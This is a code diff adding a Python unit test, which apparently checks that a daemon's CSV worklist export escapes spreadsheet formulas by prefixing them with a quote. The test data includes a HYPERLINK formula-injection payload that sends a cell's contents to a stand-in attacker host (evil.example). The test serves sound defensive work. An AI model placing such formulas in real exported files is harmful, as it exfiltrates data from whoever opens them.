@@ -412,6 +412,17 @@ class Command(house.OwnDaemon):
         self.assertEqual(rows.count(b"\n"), 2)
         self.assertIn(b"p-2,", rows)
 
+    def test_a_name_that_is_a_formula_is_text_in_the_csv(self):
+        daemon = self.made()
+        table = daemon.place / "people.csv"
+        formula = '=HYPERLINK("http://evil.example/?x="&B2;"x")'
+        table.write_text("name;subject\n\"%s\";p-2\n@SUM(1);p-1\nd'Or-Ben;p-3\n"
+                         % formula.replace('"', '""'))
+        rows = list(csv.DictReader(io.StringIO(self.run_worklist(
+            daemon, "--subjects", table, "--format", "csv").stdout.decode())))
+        self.assertEqual({row["subject"]: row["name"] for row in rows},
+                         {"p-2": "'" + formula, "p-1": "'@SUM(1)", "p-3": "d'Or-Ben"})
+
     def test_names_come_from_the_local_table(self):
         daemon = self.made()
         table = daemon.place / "people.csv"
